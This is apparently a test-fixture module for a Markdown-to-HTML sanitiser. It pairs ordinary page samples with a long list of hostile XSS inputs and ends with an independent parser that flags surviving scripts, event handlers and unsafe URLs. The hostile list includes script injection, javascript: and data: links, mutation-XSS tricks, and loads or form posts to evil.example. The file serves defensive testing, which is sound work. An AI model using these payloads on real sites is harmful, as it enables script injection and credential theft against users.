"""Texts of pages: ordinary ones with all that a page may hold, hostile ones, and a judge of what became of them."""

from __future__ import annotations

from html.parser import HTMLParser

from chapbook.source.allowlist import TAGS

ORDINARY = {
    "table": "| a | b |\n|---|--:|\n| 1 | 2 |",
    "footnote": "Word[^1].\n\n[^1]: The *note*.",
    "code": "```python\ndef f(x):\n    return x  # why\n```",
    "code with lines and title": '```python title="a.py" linenums="1" hl_lines="1"\nx = 1\ny = 2\n```',
    "code without language": "```\n<b>\n```",
    "code with a foreign info string": "```quiz id=x objective=y\nWhy?\n```",
    "inline code with language": "`#!python x = 1`",
    "definitions": "Term\n:   Meaning",
    "abbreviation": "HTML is.\n\n*[HTML]: Hyper Text",
    "tasks": "- [x] done\n- [ ] to do",
    "alert": "> [!TIP]\n> Commit when you can say why.",
    "alert with title": "> [!WARNING] Take *care*\n> Text",
    "folded alert": "> [!NOTE]-\n> Text",
    "quote": "> Text",
    "admonition": '!!! note "Own *title*"\n    Text',
    "details": '???+ tip "T"\n    Text',
    "tabs": '=== "A"\n\n    one\n\n=== "B"\n\n    two',
    "headings": "# One\n\n## Two {#own}\n\n## Two",
    "picture": '![Three boxes](../assets/a.svg "T")',
    "decorative": '![](a.svg){.decorative} and ![""](b.svg)',
    "links": "[a](b.md) [c](#d) <me@example.org>",
    "maths": r"$x^2$ and \(\frac{a}{b}\)"
    + "\n\n$$\n\\sum_{i=1}^n i\n$$\n\n\\begin{align}a&=b\\\\c&=d\\end{align}",
    "broken maths": r"$\frac{$ and $\nosuchcommand x$",
    "maths fence": "```math\n\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}\n```",
    "html": '<p lang="de" dir="ltr">a <kbd>b</kbd> <mark>c</mark> <time datetime="2026-01-01">d</time></p>',
    "media": '<video src="a.mp4" controls width="300"><track src="a.vtt" kind="captions" srclang="en" label="E"></video>',
    "figure": '<figure><img src="a.png" alt="x"><figcaption>c</figcaption></figure>',
    "ruby": "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
    "lists": "1. a\n2. b\n    - c\n\ntext\n\n5. d",
}


HOSTILE = [
    "<script>alert(1)</script>",
    "a <script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video onloadstart=alert(1) src=x></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    "<a href=vbscript:msgbox(1)>x</a>",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](/absolute.png)",
    "[x](//evil.example/)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "<a href='\\\\evil.example/x'>x</a>",
    "<video poster=https://evil.example/p.png></video>",
    "<audio autoplay src=x></audio>",
    "<source src=https://evil.example/x>",
    "<track src=https://evil.example/x>",
    "<img srcset='https://evil.example/x 1x' src=a.png>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></animate></svg>",
    "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,x'></use></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=text placeholder=Password>",
    "<input type=image src=https://evil.example/x>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select><option>x</select>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p class='md-search js-x cb-question'>x</p>",
    "<div id=__search>x</div>",
    "<a name=__palette>x</a>",
    "<label for=__drawer>x</label>",
    "<div data-md-component=search>x</div>",
    "<a href=x target=_blank ping=//evil.example>x</a>",
    "<p tabindex=1 contenteditable accesskey=x>x</p>",
    "<b popover is=x-y slot=z part=w>x</b>",
    "<math href=javascript:alert(1)><mi>x</mi></math>",
    "<math><maction actiontype=statusline>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    r"Formula $\href{javascript:alert(1)}{x}$ \(\text{<script>alert(1)</script>}\)",
    r"Formula $\text{<img src=x onerror=alert(1)>}$",
    r"Formula $\style{position:fixed}{x} \text{<b style=x>}$",
    "```math\n\\text{<script>alert(1)</script>}\n```",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<x-y onclick=alert(1)>x</x-y>",
    "<dialog open>x</dialog>",
    "<a href='http:javascript:alert(1)//' onclick=x>y</a>",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '??? note "<script>alert(1)</script>"\n    x',
    '=== "<img src=x onerror=alert(1)>"\n    x',
    "> [!TIP] <img src=x onerror=alert(1)>\n> x",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "T\n:   <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
    "- [ ] <img src=x onerror=alert(1)>",
    "## <img src=x onerror=alert(1)> {#x}",
]

URL_ATTRIBUTES = {
    "href",
    "src",
    "poster",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "background",
    "srcset",
}
SAFE_STARTS = ("https://", "http://", "mailto:", "#")


class _ActiveThings(HTMLParser):
    """An independent judge, on purpose not built from the allow-list's code."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        values = {name: value or "" for name, value in attrs}
        if tag == "input" and values.get("type") not in ("checkbox", "radio"):
            self.found.append("<input>")
        for name, value in values.items():
            self._judge(tag, name, value)

    def _judge(self, tag: str, name: str, value: str) -> None:
        folded = "".join(c for c in value if c > " ").lower()
        remote_source = tag != "a" and folded.startswith(("http:", "https:", "mailto:"))
        scheme = ":" in folded.split("/")[0] and not folded.startswith(SAFE_STARTS)
        bad_url = scheme or remote_source or folded.startswith(("//", "/", "\\"))
        theme_name = name in ("id", "name", "for") and value.startswith("__") and "tabbed" not in value
        theme_class = name == "class" and any(
            each.startswith(("md-", "js-", "cb-")) for each in value.split()
        )
        only_ours = name.startswith(("on", "data-", "xmlns")) or name in (
            *("style", "srcdoc", "target", "tabindex", "autofocus", "is", "slot", "part", "popover", "ping"),
            *("http-equiv", "form", "autoplay", "contenteditable", "accesskey", "download", "rev"),
        )
        if only_ours or theme_name or theme_class or (name in URL_ATTRIBUTES and bad_url):
            self.found.append(f"{tag}[{name}={value[:30]}]")


def active(html: str) -> list[str]:
    judge = _ActiveThings()
    judge.feed(html)
    judge.close()
    return judge.found
